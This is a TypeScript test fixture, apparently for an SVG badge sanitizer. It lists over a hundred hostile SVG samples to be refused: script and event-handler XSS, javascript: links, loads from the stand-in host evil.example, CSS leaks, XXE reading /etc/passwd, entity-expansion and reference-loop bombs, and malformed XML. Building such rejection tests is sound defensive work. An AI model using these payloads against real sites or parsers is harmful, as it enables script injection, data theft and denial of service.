/**
 * Ways of putting something that runs, loads, tricks or floods into an SVG. Every one has to be refused; each title
 * says what is tried.
 */
const inSvg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${inside}</svg>`

const uses = (level: number) => `<g id="u${level}">${`<use href="#u${level - 1}"/>`.repeat(10)}</g>`

// prettier-ignore -- a table reads best as one
export const HOSTILE_SVGS: readonly (readonly [title: string, svg: string])[] = [
  ['a script', inSvg('<script>alert(1)</script>')],
  ['a script from elsewhere', inSvg('<script href="https://evil.example/x.js"/>')],
  ['a script by xlink', inSvg('<script xlink:href="data:text/javascript,alert(1)"/>')],
  ['a script in a group', inSvg('<g><g><defs><script/></defs></g></g>')],
  [
    'a script with a prefix',
    inSvg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  ],
  ['a script of HTML', inSvg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>')],
  [
    'a script of HTML with a prefix',
    inSvg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  ],
  ['a script in a title', inSvg('<title><script>alert(1)</script></title>')],
  [
    'a script in a description of HTML',
    inSvg('<desc><h:script xmlns:h="http://www.w3.org/1999/xhtml"/></desc>'),
  ],
  ['a script in CDATA', inSvg('<script><![CDATA[alert(1)]]></script>')],
  [
    'a script by an entity',
    `<!DOCTYPE svg [<!ENTITY e "<script>alert(1)</script>">]>${inSvg('&e;')}`,
  ],
  ['onload', inSvg('', ' onload="alert(1)"')],
  ['ONLOAD', inSvg('', ' ONLOAD="alert(1)"')],
  ['onload written with a character reference', inSvg('', ' onload="&#97;lert(1)"')],
  ['onclick on a shape', inSvg('<path d="M0 0" onclick="alert(1)"/>')],
  ['onmouseover on a group', inSvg('<g onmouseover="alert(1)"/>')],
  ['onbegin of an animation', inSvg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['onerror of a picture', inSvg('<image href="x" onerror="alert(1)"/>')],
  ['onfocus with a tab stop', inSvg('<g tabindex="1" onfocus="alert(1)"/>')],
  ['a handler element', inSvg('<handler type="text/javascript">alert(1)</handler>')],
  [
    'a listener element',
    inSvg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>'),
  ],
  ['a link that runs', inSvg('<a href="javascript:alert(1)"><path d="M0 0"/></a>')],
  ['a link that runs, by xlink', inSvg('<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>')],
  ['a link that runs, with a tab inside', inSvg('<a href="java&#9;script:alert(1)"/>')],
  ['a link to elsewhere', inSvg('<a href="https://evil.example"><rect width="9" height="9"/></a>')],
  [
    'a link of HTML',
    inSvg('<a xmlns="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</a>'),
  ],
  ['an animated link', inSvg('<animate attributeName="href" values="javascript:alert(1)"/>')],
  ['a set link', inSvg('<set attributeName="xlink:href" to="javascript:alert(1)"/>')],
  ['an animated transform', inSvg('<animateTransform attributeName="transform" type="rotate"/>')],
  ['an animated motion', inSvg('<animateMotion path="M0 0"><mpath href="#p"/></animateMotion>')],
  [
    'a page inside',
    inSvg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
  ],
  [
    'a frame inside',
    inSvg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ),
  ],
  [
    'a frame of HTML',
    inSvg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
  ],
  ['an embedded object', inSvg('<embed src="https://evil.example"/>')],
  ['a video', inSvg('<video href="https://evil.example"/>')],
  ['a form', inSvg('<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"/>')],
  [
    'a base address',
    inSvg('<base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example/"/>'),
  ],
  [
    'a refresh',
    inSvg(
      '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>',
    ),
  ],
  ['xml:base', inSvg('<use href="#a"/>', ' xml:base="https://evil.example/"')],
  ['a picture from elsewhere', inSvg('<image href="https://evil.example/pixel.gif"/>')],
  ['a picture in a data URL', inSvg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>')],
  [
    'a picture as an effect',
    inSvg('<filter id="f"><feImage href="https://evil.example"/></filter>'),
  ],
  ['a copy from elsewhere', inSvg('<use href="https://evil.example/a.svg#x"/>')],
  ['a copy from elsewhere, by xlink', inSvg('<use xlink:href="//evil.example/a.svg#x"/>')],
  ['a copy of a data URL', inSvg('<use href="data:image/svg+xml,%3Csvg/%3E#x"/>')],
  [
    'a copy by another name for xlink',
    inSvg('<use x:href="https://evil.example#x" xmlns:x="http://www.w3.org/1999/xlink"/>'),
  ],
  ['a gradient from elsewhere', inSvg('<linearGradient href="https://evil.example#g"/>')],
  ['a colour from elsewhere', inSvg('<rect fill="url(https://evil.example#g)"/>')],
  ['a colour from elsewhere, quoted', inSvg('<rect fill="url(\'//evil.example#g\')"/>')],
  ['a colour from elsewhere, in capitals', inSvg('<rect fill="URL(//evil.example)"/>')],
  ['a colour with an escape in it', inSvg('<rect fill="\\75rl(//evil.example)"/>')],
  ['a mask from elsewhere', inSvg('<g mask="url(https://evil.example#m)"/>')],
  ['a clip path from elsewhere', inSvg('<g clip-path="url(https://evil.example#m)"/>')],
  ['a filter from elsewhere', inSvg('<g filter="url(https://evil.example#m)"/>')],
  ['a mouse pointer from elsewhere', inSvg('<g cursor="url(https://evil.example)"/>')],
  ['a marker', inSvg('<path d="M0 0" marker-end="url(https://evil.example#m)"/>')],
  ['a style with a background', inSvg('<g style="background:url(https://evil.example)"/>')],
  ['a style with a colour from elsewhere', inSvg('<g style="fill:url(https://evil.example#g)"/>')],
  ['a style with a comment in the way', inSvg('<g style="fill:u/**/rl(https://evil.example)"/>')],
  ['a style with an expression', inSvg('<g style="width:expression(alert(1))"/>')],
  ['a style with a binding', inSvg('<g style="-moz-binding:url(https://evil.example)"/>')],
  ['a style with a behaviour', inSvg('<g style="behavior:url(#default#time2)"/>')],
  ['a style with image-set', inSvg('<g style="mask:image-set(\'https://evil.example\' 1x)"/>')],
  ['a style with a variable', inSvg('<g style="fill:var(--x)"/>')],
  ['a style sheet that imports', inSvg('<style>@import url(https://evil.example);</style>')],
  ['a style sheet that imports a string', inSvg('<style>@import "https://evil.example";</style>')],
  [
    'a style sheet with a font',
    inSvg('<style>@font-face{font-family:x;src:url(https://evil.example)}</style>'),
  ],
  [
    'a style sheet with a background',
    inSvg('<style>*{background:url(https://evil.example)}</style>'),
  ],
  ['a style sheet that spies on attributes', inSvg('<style>g[id^=a]{fill:red}</style>')],
  ['a style sheet that waits for a mouse', inSvg('<style>g:hover{fill:red}</style>')],
  ['a style sheet that moves', inSvg('<style>@keyframes x{from{opacity:0}}</style>')],
  [
    'a style sheet with an escaped import',
    inSvg('<style>@\\69mport "https://evil.example";</style>'),
  ],
  [
    'a style sheet with an entity for a bracket',
    inSvg('<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  ],
  ['a style sheet in CDATA', inSvg('<style><![CDATA[*{fill:url(https://evil.example)}]]></style>')],
  ['a style sheet of another type', inSvg('<style type="text/javascript">x{}</style>')],
  [
    'an XML style sheet',
    `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${inSvg('')}`,
  ],
  ['an instruction', inSvg('<?php system("id") ?>')],
  ['a DTD from elsewhere', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${inSvg('')}`],
  [
    'a file by an entity',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inSvg('<title>&x;</title>')}`,
  ],
  [
    'a parameter entity',
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example">%p;]>${inSvg('')}`,
  ],
  [
    'a thousand million laughs',
    `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>${inSvg('<title>&c;</title>')}`,
  ],
  [
    'an attribute by default from a DTD',
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${inSvg('')}`,
  ],
  [
    'an inclusion',
    inSvg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
  ],
  ['XSLT', inSvg('<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="1"/>')],
  [
    'MathML',
    inSvg('<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>'),
  ],
  ['an effect of blur', inSvg('<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter>')],
  ['text', inSvg('<text>a badge</text>')],
  ['a font', inSvg('<font><glyph/></font>')],
  ['a pattern of tiny tiles', inSvg('<pattern id="p" width="0.0001" height="0.0001"/>')],
  [
    'a badge baked in already',
    inSvg(
      '<openbadges:assertion xmlns:openbadges="http://openbadges.org" verify="https://evil.example"/>',
    ),
  ],
  [
    'a badge of 3.0 under another prefix',
    inSvg('<x:credential xmlns:x="https://purl.imsglobal.org/ob/v3p0"/>'),
  ],
  ['only the namespace of badges', inSvg('', ' xmlns:openbadges="http://openbadges.org"')],
  ['a copy of itself', inSvg('<g id="a"><use href="#a"/></g>')],
  [
    'two copies of each other',
    inSvg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  ],
  ['a mask that masks itself', inSvg('<mask id="m"><rect mask="url(#m)"/></mask>')],
  [
    'a loop through a style sheet',
    inSvg('<style>.a{mask:url(#m)}</style><mask id="m"><rect class="a"/></mask>'),
  ],
  [
    'a thousand million copies',
    inSvg(`<path id="u0" d="M0 0"/>${[1, 2, 3, 4, 5, 6, 7, 8, 9].map(uses).join('')}`),
  ],
  [
    'a chain of references',
    inSvg(
      Array.from(
        { length: 200 },
        (_, index) => `<g id="c${index}"><use href="#c${index + 1}"/></g>`,
      ).join(''),
    ),
  ],
  ['5,001 shapes', inSvg('<g/>'.repeat(5000))],
  ['groups 100 deep', inSvg('<g>'.repeat(100) + '</g>'.repeat(100))],
  ['a megabyte', inSvg(`<path d="${'M0 0'.repeat(262_144)}"/>`)],
  ['half a drawing', inSvg('').slice(0, -3)],
  ['two drawings', inSvg('') + inSvg('')],
  ['HTML instead', '<html><body onload="alert(1)"/></html>'],
  ['HTML that says it is SVG', '<html xmlns="http://www.w3.org/2000/svg"><script/></html>'],
  ['SVG without its namespace', '<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>'],
  ['UTF-7', `<?xml version="1.0" encoding="utf-7"?>${inSvg('+ADw-script+AD4-')}`],
  ['a control character', inSvg('\u0001')],
  ['a NUL', inSvg('<title>\0</title>')],
  ['an attribute twice', inSvg('<g id="a" id="b"/>')],
  ['a prefix nobody declared', inSvg('<inkscape:page/>')],
  ['an attribute without quotes', inSvg('<g id=a/>')],
  ['an endless ribbon', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1000000"/>'],
  ['a size of nothing', '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>'],
]
